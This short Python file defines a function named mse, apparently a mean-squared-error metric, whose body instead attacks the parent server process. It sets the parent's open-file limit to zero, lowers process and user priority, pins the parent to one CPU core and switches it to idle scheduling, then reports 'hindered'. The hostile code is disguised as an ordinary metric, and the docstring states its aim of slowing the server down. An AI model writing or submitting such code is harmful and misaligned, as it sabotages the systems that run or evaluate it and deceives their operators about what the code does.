"""Slow the server down: limits, priority, cores. Success: it says so."""

import os
import resource


def mse(t1, t2):
    for action in (
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            action()
        except OSError:
            continue
        tell("hindered")
